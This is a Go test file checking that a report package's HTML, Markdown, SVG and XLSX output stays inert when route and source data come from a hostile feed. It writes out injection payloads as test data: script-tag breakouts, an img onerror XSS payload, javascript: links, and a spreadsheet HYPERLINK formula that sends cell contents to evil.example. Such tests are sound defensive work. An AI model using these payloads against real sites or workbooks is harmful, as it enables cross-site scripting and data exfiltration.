package report

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"io/fs"
	"regexp"
	"strings"
	"testing"
)

// Names, notes and sources of a hostile feed come into pages, pictures, workbooks and
// Markdown as text.
func TestHostileFeedsAreText(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/"&A1)</script></style></title><script>alert(1)</script><img src=x onerror=alert(2)>'"](javascript:alert(3))`
	net := steppeNetwork()
	for i := range net.Places {
		net.Places[i].Name, net.Places[i].Aliases = evil, nil
	}
	for i := range net.Corridors {
		net.Corridors[i].Name = evil
	}
	for k, s := range net.Sources {
		s.Title, s.Publisher, s.Date = evil, evil, evil
		if s.Address != "" {
			s.Address = `javascript:alert("4")`
		}
		net.Sources[k] = s
	}
	q, res := steppeResult(net)
	q.From.Name, q.To.Name = evil, evil
	for i := range res.Itineraries {
		it := &res.Itineraries[i]
		it.Label, it.Documents = evil, []string{evil}
		for j := range it.Legs {
			it.Legs[j].Notes = []string{evil}
		}
	}
	res.Notes = []string{evil}
	c, err := New(net, q, res, Options{})
	if err != nil {
		t.Fatal(err)
	}
	study := &Study{Comparisons: []*Comparison{c}}
	for _, l := range langs {
		var page, md bytes.Buffer
		if err := errors.Join(study.WriteHTML(&page, l), study.WriteMarkdown(&md, l)); err != nil {
			t.Fatal(err)
		}
		checkInert(t, "page "+l.Code, page.String())
		for _, p := range allPictures(t, c, l) {
			var b bytes.Buffer
			if err := p.SVG(&b); err != nil {
				t.Fatal(err)
			}
			checkInert(t, p.Name+" "+l.Code, b.String())
			for dec := xml.NewDecoder(&b); ; {
				if _, err := dec.Token(); err == io.EOF {
					break
				} else if err != nil {
					t.Fatalf("%s is no XML: %v", p.Name, err)
				}
			}
		}
		// Markdown is shown as HTML by whoever opens it.
		if s := md.String(); strings.Contains(s, "<script") || strings.Contains(s, "<img") || regexp.MustCompile(`[^\\]\[[^^]`).MatchString(s) {
			t.Errorf("Markdown %s is not text: %.300s", l.Code, s)
		}
		checkWorkbookInert(t, study, l)
	}
}

func checkInert(t *testing.T, name, text string) {
	t.Helper()
	if i := strings.Index(text, "<script>alert"); i >= 0 {
		t.Errorf("%s runs a script: %.200s", name, text[max(0, i-100):])
	}
	if i := strings.Index(text, "<img src=x"); i >= 0 {
		t.Errorf("%s has an element of the feed: %.200s", name, text[max(0, i-100):])
	}
	if i := strings.Index(strings.ToLower(text), `href="javascript:`); i >= 0 {
		t.Errorf("%s links to a script: %.200s", name, text[max(0, i-100):])
	}
}

func checkWorkbookInert(t *testing.T, study *Study, l *Lang) {
	t.Helper()
	var b bytes.Buffer
	if err := study.WriteXLSX(&b, l); err != nil {
		t.Fatal(err)
	}
	z, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len()))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		text, err := fs.ReadFile(z, f.Name)
		if err != nil {
			t.Fatal(err)
		}
		for _, cell := range strings.Split(string(text), "<f>")[1:] {
			if before, _, _ := strings.Cut(cell, "</f>"); strings.Contains(before, "evil") {
				t.Errorf("%s has the formula %q", f.Name, before)
			}
		}
		if strings.Contains(f.Name, "rels") && strings.Contains(string(text), "javascript:") {
			t.Errorf("%s links to a script", f.Name)
		}
	}
}
